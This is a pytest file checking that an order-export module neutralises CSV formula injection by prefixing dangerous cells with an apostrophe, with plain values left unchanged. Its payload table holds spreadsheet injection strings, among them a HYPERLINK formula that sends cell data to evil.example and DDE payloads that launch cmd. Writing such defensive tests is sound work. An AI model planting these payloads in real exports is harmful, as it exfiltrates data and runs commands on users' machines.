"""CSV formula injection (OWASP): no text cell of an export reaches a spreadsheet as a formula."""

from __future__ import annotations

from decimal import Decimal

import pytest

from malote.orders.export import _cell, neutralise

# Each payload a spreadsheet would evaluate, and what the export writes instead.
PAYLOADS = {
    '=HYPERLINK("http://evil.example/?d="&A1,"Clique")': '\'=HYPERLINK("http://evil.example/?d="&A1,"Clique")',
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t'=1+1",
    "\r=1+1": "'\r'=1+1",
    "\tplain": "'\tplain",
    "\rplain": "'\rplain",
    "  =1+1": "'  =1+1",  # some importers trim leading spaces
    "Maria;=1+1": "Maria;'=1+1",  # Excel in pt-BR splits a .csv on ";"
    "Maria, @SUM(A1)": "Maria, '@SUM(A1)",
    "a\n-2+3": "a\n'-2+3",
}

# Ordinary values, written exactly as they are.
PLAIN = [
    "Maria Souza",
    "maria@example.com",
    "02-704319102",
    "São Paulo - SP",
    "a+b=c",
    "Rua X, 100",
    "José d'Ávila",
    "",
    "BR123456789BR",
]


@pytest.mark.parametrize(("payload", "written"), PAYLOADS.items())
def test_a_formula_is_neutralised(payload: str, written: str) -> None:
    assert neutralise(payload) == written
    assert _cell(payload) == written


@pytest.mark.parametrize("value", PLAIN)
def test_plain_text_is_unchanged(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize(("value", "written"), [(Decimal("-10.00"), "-10.00"), (-3, "-3"), (None, "")])
def test_numbers_malote_computed_are_written_as_numbers(value: object, written: str) -> None:
    assert _cell(value) == written


def test_a_negative_number_given_as_text_is_neutralised() -> None:
    assert _cell("-10.00") == "'-10.00"
